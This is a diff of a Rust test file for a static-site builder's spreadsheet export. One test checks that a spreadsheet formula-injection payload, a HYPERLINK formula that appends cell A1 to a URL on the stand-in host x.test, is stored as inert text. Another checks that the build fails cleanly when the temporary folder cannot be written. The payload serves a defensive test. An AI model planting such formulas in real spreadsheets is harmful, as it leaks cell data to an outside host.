@@ -464,14 +464,14 @@ fn item07_formula_looking_cells_are_neutralised() {
             );
         }
     }
-    // the workbook: the same title as a shared string, no formula anywhere
+    // the workbook: the same title as an inline string, no formula anywhere
     let xlsx_path = export_from(site.path(), &out, "xlsx", "internal");
     let sheet = zip_part(&xlsx_path, "xl/worksheets/sheet1.xml");
     assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
-    let strings = zip_part(&xlsx_path, "xl/sharedStrings.xml");
     assert!(
-        strings.contains("<t>=HYPERLINK(\"http://x.test/?\"&amp;A1,\"点此\")</t>"),
-        "{strings}"
+        sheet
+            .contains("t=\"inlineStr\"><is><t>=HYPERLINK(\"http://x.test/?\"&amp;A1,\"点此\")</t>"),
+        "{sheet}"
     );
     let risks = &sheets(&xlsx_path)[0].1;
     let r2 = risks.iter().find(|r| r[0] == "R-002").unwrap();
@@ -524,4 +524,37 @@ fn item14_export_into_content_is_refused() {
         ok.to_str().unwrap(),
     ]);
     assert_eq!(r.code, 0, "{}", r.stderr);
+}
+
+/// The workbook is written row by row through the system's temporary
+/// folder: when that folder cannot be written, the build stops with a
+/// message naming it and how to choose another, and the site already
+/// published stays as it was.
+#[cfg(unix)]
+#[test]
+fn an_unwritable_temporary_folder_is_named_and_the_old_site_kept() {
+    use assert_cmd::Command;
+    let site = base_copy();
+    let root = site.path().to_str().unwrap();
+    assert_eq!(gongshi(&["--root", root, "build", "-q"]).code, 0);
+    let page = site.path().join("site/public/2025/register.xlsx");
+    let before = std::fs::read(&page).unwrap();
+    let missing = site.path().join("no-such-tmp");
+    let out = Command::cargo_bin("gongshi")
+        .unwrap()
+        .args(["--root", root, "build", "-q"])
+        .env("TMPDIR", &missing)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("register.xlsx"), "{stderr}");
+    assert!(stderr.contains(missing.to_str().unwrap()), "{stderr}");
+    assert!(stderr.contains("TMPDIR"), "{stderr}");
+    assert!(!stderr.contains("panicked"), "{stderr}");
+    assert_eq!(
+        std::fs::read(&page).unwrap(),
+        before,
+        "the old site was kept"
+    );
 }
